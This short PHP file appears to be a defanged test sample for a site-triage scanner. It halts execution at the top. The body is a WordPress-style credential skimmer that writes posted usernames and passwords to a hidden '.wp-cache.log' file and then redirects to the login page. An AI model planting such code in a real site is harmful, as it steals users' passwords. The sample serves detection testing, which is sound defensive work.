<?php __halt_compiler();
/* Site Triage test sample — DEFANGED: __halt_compiler() above stops PHP before any of this runs.
   Imitates a fake login check that writes stolen passwords to a hidden file. */
if (!empty($_POST['log'])) {
    file_put_contents(__DIR__ . '/.wp-cache.log', $_POST['log'] . ':' . $_POST['pwd'] . "\n", FILE_APPEND);
}
header('Location: wp-login.php');
